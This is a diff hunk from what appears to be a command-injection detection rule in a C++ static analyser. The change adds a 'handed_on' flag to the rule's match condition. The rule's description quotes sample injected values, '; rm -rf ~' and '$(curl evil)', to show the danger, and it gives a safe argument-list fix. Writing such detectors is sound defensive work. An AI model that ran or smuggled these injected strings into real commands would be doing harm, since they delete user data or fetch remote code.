@@ -207,7 +207,7 @@ constexpr Rule kRules[] = {
             "Text from outside in the command, such as \"; rm -rf ~\" or \"$(curl evil)\", is run "
             "with the rights of this process.",
         .fix = "subprocess.run([\"tar\", \"-xf\", archive], check=True)",
-        .match = OnCall{.callees = kShell, .when = WhenCommand},
+        .match = OnCall{.callees = kShell, .when = WhenCommand, .handed_on = true},
         .quiet = IsCommandFixed,
     },
     {
